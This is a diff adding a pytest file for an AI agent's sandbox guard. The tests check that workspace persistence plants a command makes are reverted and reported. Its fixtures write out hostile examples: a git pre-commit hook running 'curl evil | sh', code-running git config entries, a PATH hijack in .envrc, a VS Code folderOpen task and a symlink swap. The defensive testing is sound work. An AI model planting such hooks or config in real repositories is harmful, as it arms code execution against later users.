@@ -1,0 +1,153 @@
+"""The workspace cannot arm a later run: what a command plants (git hooks, program-running
+git config, .envrc, editor tasks, .hermes/, .mcp.json) is put back after it and reported,
+while git init / clone / remote add keep working. In process (Snapshot around direct file
+changes) and through the terminal tool in the kernel sandbox (wire)."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+
+from agent.sandbox.arming import Snapshot, git_config_entries
+from agent.tools.registry import ToolContext
+
+PLANTS = {
+    ".git/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n",
+    ".envrc": "export PATH=./evil:$PATH\n",
+    ".vscode/tasks.json": '{"tasks": [{"runOn": "folderOpen", "command": "evil"}]}\n',
+    ".vscode/settings.json": '{"terminal.integrated.shell.linux": "/tmp/evil"}\n',
+    ".hermes/hooks.yaml": "on_start: evil\n",
+    ".mcp.json": '{"mcpServers": {"x": {"command": "evil"}}}\n',
+}
+EVIL_CONFIG = """\
+[core]
+\thooksPath = /tmp/evil-hooks
+\tfsmonitor = /tmp/evil
+\tsshCommand = evil
+[alias]
+\tst = !evil
+\tco = checkout
+[filter "lfs"]
+\tclean = evil %f
+[diff "pdf"]
+\ttextconv = evil
+[remote "origin"]
+\turl = https://example.invalid/repo.git
+"""
+
+
+def _repo(ws: Path) -> None:
+    (ws / ".git" / "hooks").mkdir(parents=True)
+    (ws / ".git" / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
+    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    (ws / ".vscode").mkdir()
+    (ws / ".vscode" / "settings.json").write_text('{"editor.tabSize": 4}\n')
+
+
+def test_plants_are_removed_and_changes_put_back(tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    _repo(ws)
+    snap = Snapshot.take(str(ws), str(ws))
+    for rel, text in PLANTS.items():
+        (ws / rel).parent.mkdir(parents=True, exist_ok=True)
+        (ws / rel).write_text(text)
+    (ws / ".git" / "hooks" / "pre-commit").chmod(0o755)
+    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n" + EVIL_CONFIG)
+    (ws / "clone" / ".git" / "hooks").mkdir(parents=True)  # a fresh clone beside it
+    (ws / "clone" / ".git" / "hooks" / "post-checkout").write_text("evil\n")
+    lines = snap.revert()
+    assert len(lines) == len(PLANTS) + 2
+    for rel in PLANTS:
+        if rel == ".vscode/settings.json":
+            assert (ws / rel).read_text() == '{"editor.tabSize": 4}\n'
+        else:
+            assert not (ws / rel).exists(), rel
+    assert not (ws / "clone" / ".git" / "hooks" / "post-checkout").exists()
+    assert (ws / ".git" / "hooks" / "pre-commit.sample").exists()
+    kept = {k for _, k, _ in git_config_entries((ws / ".git" / "config").read_text())}
+    assert kept == {"core.bare", "alias.co", 'remote.origin.url'}
+    assert any("core.fsmonitor" in line and "removed" in line for line in lines)
+    assert snap.revert() == []  # nothing left to put back
+
+
+def test_allowed_entries_and_untouched_files_are_left_alone(tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    _repo(ws)
+    (ws / ".envrc").write_text("export A=1\n")
+    snap = Snapshot.take(str(ws), str(ws), frozenset({".envrc"}))
+    (ws / ".envrc").write_text("export A=2\n")
+    (ws / "src.py").write_text("print(1)\n")
+    assert snap.revert() == []
+    assert (ws / ".envrc").read_text() == "export A=2\n"
+
+
+def test_a_link_planted_in_place_of_a_hook_is_removed_not_followed(tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    _repo(ws)
+    victim = tmp_path / "victim"
+    victim.write_text("keep\n")
+    snap = Snapshot.take(str(ws), str(ws))
+    (ws / ".vscode" / "settings.json").unlink()
+    (ws / ".vscode" / "settings.json").symlink_to(victim)
+    assert snap.revert()
+    assert victim.read_text() == "keep\n"
+    assert (ws / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 4}\n'
+    assert not (ws / ".vscode" / "settings.json").is_symlink()
+
+
+# ---- through the terminal tool, in the kernel sandbox ---------------------------------
+
+
+@pytest.fixture
+def sandboxed(tmp_path: Path, hermes_home: Path, monkeypatch: pytest.MonkeyPatch):
+    if shutil.which("git") is None:
+        pytest.skip("git is not installed")
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    monkeypatch.setenv("HOME", str(tmp_path))
+    return ToolContext(session_id="s", home=hermes_home, cwd=ws, yolo=True)
+
+
+@pytest.mark.wire
+def test_a_command_cannot_arm_the_workspace_and_git_still_works(sandboxed, call) -> None:
+    ws = Path(sandboxed.cwd)
+    plant = " && ".join(f"mkdir -p $(dirname {rel}) && printf 'evil' > {rel}" for rel in PLANTS)
+    result = call("terminal", sandboxed, command=(
+        "git init -q . && git remote add origin https://example.invalid/r.git && "
+        "git config core.fsmonitor /tmp/evil && git config alias.st '!evil' && "
+        f"{plant} && chmod +x .git/hooks/pre-commit && echo planted"))
+    assert "planted" in result.content and "[exit code 0]" in result.content
+    assert "put back files this command planted" in result.content
+    for rel in PLANTS:
+        assert not (ws / rel).exists(), rel
+    config = subprocess.run(["git", "config", "--list", "--local"], cwd=ws, capture_output=True,
+                            text=True, check=True).stdout
+    assert "remote.origin.url=https://example.invalid/r.git" in config
+    assert "fsmonitor" not in config and "alias.st" not in config
+    quiet = call("terminal", sandboxed, command="git status --short && echo fine")
+    assert "fine" in quiet.content and "put back" not in quiet.content
+
+
+@pytest.mark.wire
+def test_cost_of_the_guard_per_terminal_call(sandboxed, call) -> None:
+    ws = Path(sandboxed.cwd)
+    subprocess.run(["git", "init", "-q", str(ws)], check=True)
+    for number in range(50):
+        (ws / f"dir{number}").mkdir()
+    timings = []
+    for _ in range(20):
+        start = time.perf_counter()
+        snap = Snapshot.take(str(ws), str(ws))
+        snap.revert()
+        timings.append(time.perf_counter() - start)
+    timings.sort()
+    print(f"\narming guard per terminal call (git repo + 50 subdirectories): "
+          f"median {timings[10] * 1000:.2f} ms")
+    assert timings[10] < 0.05
